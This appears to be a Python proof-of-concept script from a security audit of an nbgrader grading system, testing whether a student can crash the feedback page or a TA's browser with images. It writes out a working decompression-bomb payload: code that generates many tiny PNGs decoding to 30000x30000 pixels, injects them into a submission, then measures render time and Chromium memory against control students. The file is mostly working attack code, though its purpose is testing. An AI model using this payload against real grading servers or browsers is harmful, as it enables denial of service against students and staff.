"""a07 (each image distinct: one pixel of its first row differs, so the browser cannot share one decode): the feedback page (and the graded notebook Formgrader shows the TA) keep PNG/JPEG outputs; feedback.py charges
each output a fixed OUTPUT_COST and budgets TEXT only, so the only bound on an image is the receive caps (1 MB a message,
2 MB a cell, 10 MB a notebook). A PNG's decoded size is width x height x 4 whatever its file size: mallory's kernel
displays 1-bit all-zero PNGs (deflate ~1000:1) of W x H pixels, N of them, in an extra code cell; then her feedback
page and aaron's (control) are opened in chromium (headless, playwright) and timed; the renderer's memory is read.
Controls aaron40u, zoe40u."""
import os, sys, json
sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
from lib import *
A = "ps1_memory"
W = int(os.environ.get("W", "30000")); H = int(os.environ.get("H", "30000")); N = int(os.environ.get("N", "6"))
BOMB = f'''
import zlib, struct, base64
from IPython.display import Image, display
def _png(w, h, k=0):
    def chunk(t, d): return struct.pack(">I", len(d)) + t + d + struct.pack(">I", zlib.crc32(t + d) & 0xffffffff)
    row = b"\\x00" * (1 + (w + 7) // 8)
    c = zlib.compressobj(9); parts = [c.compress(bytes([0, k % 256, k // 256]) + row[3:])] + [c.compress(row) for _ in range(h - 1)]; parts.append(c.flush())
    return b"\\x89PNG\\r\\n\\x1a\\n" + chunk(b"IHDR", struct.pack(">IIBBBBB", w, h, 1, 0, 0, 0, 0)) + chunk(b"IDAT", b"".join(parts)) + chunk(b"IEND", b"")
for _k in range({N}):
    _b = _png({W}, {H}, _k + 1); display(Image(data=_b, format="png"))
print("png bytes", len(_b), "each, all distinct")
'''
m = honest(A)
idx = [i for i, c in enumerate(m.cells) if c.metadata.get("nbgrader", {}).get("grade_id") == "training_memory"][0]
m.cells.insert(idx + 1, nbformat.v4.new_code_cell(BOMB))
d = make_course("a07")
hand_in(d, "aaron40u", A, honest(A)); hand_in(d, "mallory40u", A, m); hand_in(d, "zoe40u", A, honest(A))
grade(d, A); scores(d)
for s in ("aaron40u", "mallory40u"):
    for root, _, files in os.walk(f"{d}/feedback/{s}"):
        for f in files: print("feedback file", os.path.join(root, f), os.path.getsize(os.path.join(root, f)))
from playwright.sync_api import sync_playwright
with sync_playwright() as pw:
    for s in ("aaron40u", "mallory40u"):
        page_path = f"{d}/feedback/{s}/{A}/{A}.html"
        if not os.path.exists(page_path):
            print("no page for", s); continue
        b = pw.chromium.launch(executable_path="/usr/bin/chromium", args=["--no-sandbox"])
        pg = b.new_page()
        t = time.time()
        try:
            pg.goto("file://" + page_path, timeout=180000, wait_until="load")
            loaded = time.time() - t
            n = pg.evaluate("document.images.length")
            # make the browser decode every image (scroll through)
            t2 = time.time()
            dec = pg.evaluate("""async () => { let ok = 0, bad = 0; for (const i of document.images) { try { await i.decode(); ok++; } catch (e) { bad++; } } return [ok, bad]; }""")
            print(f"{s}: load {loaded:.1f}s, {n} images, decode() {dec} in {time.time()-t2:.1f}s")
            print("  natural sizes", pg.evaluate("Array.from(document.images).map(i => [i.naturalWidth, i.naturalHeight, i.width, i.height])"))
            t3 = time.time()
            for k in range(n):
                pg.evaluate(f"document.images[{k}].scrollIntoView()")
                tk = time.time(); pg.screenshot(path=f"/tmp/attack40-user-a07-{s}.png", timeout=300000)
                print(f"  image {k} painted (screenshot) in {time.time()-tk:.1f}s")
            t4 = time.time(); pg.evaluate("window.scrollTo(0, 0)"); pg.screenshot(path=f"/tmp/attack40-user-a07-{s}.png", timeout=300000)
            print(f"  top of page screenshot {time.time()-t4:.1f}s; all painting {time.time()-t3:.1f}s")
        except Exception as e:
            print(f"{s}: {type(e).__name__}: {str(e)[:300]} after {time.time()-t:.1f}s")
        try:
            out = subprocess.run("ps -eo rss,args | grep -i 'chromium.*renderer' | grep -v grep | awk '{s+=$1} END {print s}'", shell=True, capture_output=True, text=True).stdout.strip()
            print(f"  renderer RSS total {out} kB")
        except Exception: pass
        b.close()
